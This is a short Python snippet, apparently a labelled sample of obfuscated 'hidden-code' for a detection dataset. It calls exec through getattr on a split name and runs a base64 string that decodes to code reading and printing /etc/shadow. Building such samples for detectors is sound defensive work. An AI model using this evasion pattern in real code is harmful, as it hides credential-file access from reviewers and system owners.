# family: hidden-code
# exec reached through getattr on the builtins with a split name, on decoded text
import base64
import builtins

fn = getattr(builtins, "ex" + "ec")
fn(base64.b64decode(b"cHJpbnQob3BlbignL2V0Yy9zaGFkb3cnKS5yZWFkKCkp"))
